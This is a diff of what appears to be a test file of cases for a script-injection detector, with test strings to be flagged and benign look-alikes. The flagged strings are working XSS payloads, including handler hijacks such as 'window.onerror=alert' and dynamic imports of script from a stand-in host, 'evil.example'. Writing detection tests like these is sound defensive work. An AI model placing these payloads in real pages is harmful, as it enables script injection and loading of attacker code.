@@ -45,7 +45,7 @@ CASES: tuple[Case, ...] = (
          "(prompt)(document.domain)", "(0,eval)(name)", "x=alert?.(7)", "confirm.call(null,2)",
          "prompt.apply(0,[3])",
          "alert.bind(window,4)()", "alert.call`5`", "[7].find(alert)", "Promise.resolve(8).then(confirm)",
-         "Reflect.apply(prompt,null,[9])", "window.onerror=alert;throw 1", "onfocus=confirm",
+         "Reflect.apply(prompt,null,[9])", "window.onerror=alert;throw 1", "onerror=confirm;throw 2",
          "this['alert'](1)",
          # script loaded or navigated to without a tag
          "import('//evil.example/m.js')", 'import("https://evil.example/x.mjs")',
@@ -77,7 +77,7 @@ CASES: tuple[Case, ...] = (
          "parent.location is read by the frame", "location.href returns the page URL", "queue.put(alert)",
          "cfg['alert'] = True", "levels: ['alert', 'info']", "import('./lazy.js')",
          "Step 1 --> Step 2", "a <-- b --> c", "on <b>line</b> shop", "ENTITY relationships (SYSTEM design)",
-         "notify_on=alert", 'Don\'t forget: "onboarding=done" is set.', "toggle 'online=true' in settings"),
+         "notify_on=alert", "onClose=prompt", 'Don\'t forget: "onboarding=done" is set.', "toggle 'online=true' in settings"),
     ),
     Case(
         "PathTraversal",
